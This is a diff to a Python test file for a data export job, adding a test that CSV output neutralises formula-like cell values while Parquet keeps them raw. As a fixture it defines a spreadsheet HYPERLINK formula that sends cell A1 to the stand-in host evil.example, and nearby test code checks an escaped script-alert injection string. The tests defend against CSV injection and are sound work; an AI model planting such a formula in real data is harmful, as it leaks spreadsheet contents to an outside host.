@@ -19,6 +19,7 @@ from pathlib import Path
 from typing import Any
 
 import pandas as pd
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
@@ -27,7 +28,7 @@ from contracts.settings import settings as cached_settings
 from jobs import export as export_mod
 from jobs.cli import main
 from jobs.commands import export as cmd
-from jobs.export import FORMATS
+from jobs.export import FORMATS, spreadsheet_safe
 from tests.support.report_lake import DETECTORS, KnownLake, build_known_lake
 from tests.warehouse.test_figures import RECOMPUTES, _decimals, assert_same
 from warehouse.figures import figures
@@ -268,6 +269,29 @@ def test_html_is_self_contained_and_escapes_hostile_device_strings(lake: L.Lake,
     assert "&lt;script&gt;alert(&quot;road&quot;)&lt;/script&gt;" in worst or \
         "&lt;script&gt;alert(\"road\")&lt;/script&gt;" in worst
     assert "$\\frac{a}{b}$" in worst  # mathtext off: shown as typed
+
+
+FORMULA_ROAD = '=HYPERLINK("http://evil.example/?"&A1,"Ruhrort")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_open_as_text(lake: L.Lake, env: Path) -> None:
+    """A road named like a formula is exported to CSV with a leading apostrophe (it opens as
+    text in a spreadsheet program); Parquet keeps the value as it is; numbers are untouched."""
+    roads = dict(DETECTORS)
+    roads["tdet-1"] = (FORMULA_ROAD, "Mitte")
+    roads["tdet-2"] = ("-1+1", "Mitte")
+    build_known_lake(lake, roads=roads)
+    assert cmd.run_export(export_args(out=env, format=("csv", "parquet"))) == 0
+    target = period_dir(env)
+    csv_roads = pd.read_csv(target / "worst_roads.csv")["road"].tolist()
+    parquet_roads = pq.read_table(target / "worst_roads.parquet").column("road").to_pylist()
+    assert "'" + FORMULA_ROAD in csv_roads and "'-1+1" in csv_roads
+    assert FORMULA_ROAD in parquet_roads and "-1+1" in parquet_roads
+    assert not [r for r in csv_roads if str(r)[:1] in "=+-@"]
+    lone = spreadsheet_safe(pa.table({"district": ["-", "+", "Mitte", None]})).column("district").to_pylist()
+    assert lone == ["-", "+", "Mitte", None]  # no formula: kept as it is
+    # numbers are as they were (a negative number is a number, not a formula)
+    assert spreadsheet_safe(pa.table({"x": [-1.5, 2.0]})).equals(pa.table({"x": [-1.5, 2.0]}))
 
 
 def test_user_errors_exit_2_with_one_line(env: Path, monkeypatch: pytest.MonkeyPatch,
